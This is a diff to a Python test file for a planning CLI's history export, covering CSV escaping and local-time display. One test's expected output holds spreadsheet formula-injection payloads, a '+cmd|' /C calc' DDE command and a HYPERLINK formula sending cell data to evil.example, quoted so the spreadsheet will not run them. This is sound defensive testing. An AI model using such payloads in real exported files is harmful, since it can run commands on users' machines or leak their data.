@@ -276,7 +276,7 @@ def test_csv_neutralises_text_that_a_spreadsheet_would_run(
     ]
     history = planctl.ok("history", "--format", "csv", "--lang", "en", db=db, plan=plan)
     assert [line.split(",", 1)[1] for line in history.splitlines()[1:]] == [
-        "t2,'+cmd|' /C calc'!A0,done,2018-03-06,\u674e,' @x",
+        "t2,'+cmd|' /C calc'!A0,done,2018-03-06,\u674e,'+2 ·  @x",  # the count added, then the note
         't1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",done,2018-03-05,\'-2+3,\'=1+2',
     ]
 
@@ -400,7 +400,7 @@ def test_history_shows_the_recorded_time_in_local_time_with_its_offset(
     assert out.out.splitlines()[:3] == [
         "Recorded,ID,Title,Action,On,By,Note",
         "2018-06-15 09:10 +08:00,4.2,开展议政日,note,2018-06-15,王科长,改在五月",
-        "2018-06-14 09:09 +08:00,7.2,开展城市服务业发展情况的调研,defer,2018-06-14,王科长,调研对象调整",
+        "2018-06-14 09:09 +08:00,7.2,开展城市服务业发展情况的调研,defer,2018-06-14,王科长,→ 2018-08-31 · 调研对象调整",
     ]
     recorded = json.loads(run("history", "--format", "json", "--db", db).out)["events"][0]
     assert recorded["recorded_at"] == "2018-06-15T01:10:00+00:00"  # JSON stays UTC
